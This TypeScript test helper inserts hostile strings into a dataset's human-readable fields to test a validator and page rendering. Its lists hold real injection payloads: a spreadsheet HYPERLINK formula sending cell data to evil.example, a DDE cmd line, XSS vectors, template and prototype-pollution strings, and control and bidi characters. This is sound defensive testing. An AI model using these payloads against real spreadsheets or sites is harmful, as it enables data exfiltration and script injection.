import { checkDataset } from '@/geo/record/check'

/** Text that is one thing in a record and another where it is not written out as text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*9',
  '-2+3+cmd',
  '<img src=x onerror=window.hostile=1',
  '"><svg onload=window.hostile=2',
  "' onmouseover=window.hostile=3 x='",
  '</script',
  '> "/> </style',
  'javascript:window.hostile=4',
  '{{constructor.constructor("window.hostile=5")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is not to be one
  '${window.hostile=6}',
  '&lt;script&gt;window.hostile=7&lt;/script&gt;',
  '\\u003cscript\\u003ewindow.hostile=8',
  ']]> --> */ ;window.hostile=9//',
  'a;b|c,d"e\'f`g',
  '__proto__',
  'W'.repeat(400),
  'ح'.repeat(400),
]

/** What the check refuses, and the page must bear all the same. */
export const REFUSED_TEXTS: readonly string[] = [
  '<script>window.hostile=10</script>',
  '<img src="https://evil.example/x.png" onerror="window.hostile=11">',
  '<iframe src="https://evil.example/"></iframe>',
  '\u202eelttab fo eman eht\u202c',
  '\u0000\u0007\u001b[2J',
  '\ud83d',
]

/** Whether a place in a record holds text for people, rather than an id, a code or an address. */
const isForPeople = (text: string, key: string) =>
  !/^(id|\$schema|.*Id)$/.test(key) && !/^https?:/.test(text)

/** A value with every text for people replaced, one hostile text after the other. */
export function madeHostile<T>(value: T, texts: readonly string[], keys: ReadonlySet<string>): T {
  let next = 0
  const replaced = (part: unknown, key: string): unknown => {
    if (typeof part === 'string') {
      return keys.has(key) && isForPeople(part, key) ? texts[next++ % texts.length] : part
    }
    if (Array.isArray(part)) return part.map((each) => replaced(each, key))
    if (typeof part !== 'object' || part === null) return part
    return Object.fromEntries(
      Object.entries(part).map(([name, each]) => [name, replaced(each, name)]),
    )
  }
  return replaced(value, '') as T
}

/**
 * The dataset with a hostile text in every place where the check lets one stand, and how many places
 * that were.
 */
export function hostileDataset(
  files: ReadonlyMap<string, unknown>,
  folder: string,
): { files: Map<string, string>; places: number } {
  const dataset = structuredClone(new Map(files))
  const texts = () =>
    new Map([...dataset].map(([name, value]) => [name, JSON.stringify(value)] as const))
  let places = 0
  const visit = (holder: Record<string, unknown>) => {
    for (const [key, value] of Object.entries(holder)) {
      if (typeof value === 'object' && value !== null) visit(value as Record<string, unknown>)
      if (typeof value !== 'string') continue
      holder[key] = HOSTILE_TEXTS[places % HOSTILE_TEXTS.length]
      if (checkDataset(texts(), folder).problems.length === 0) places++
      else holder[key] = value
    }
  }
  for (const value of dataset.values()) visit(value as Record<string, unknown>)
  return { files: texts(), places }
}
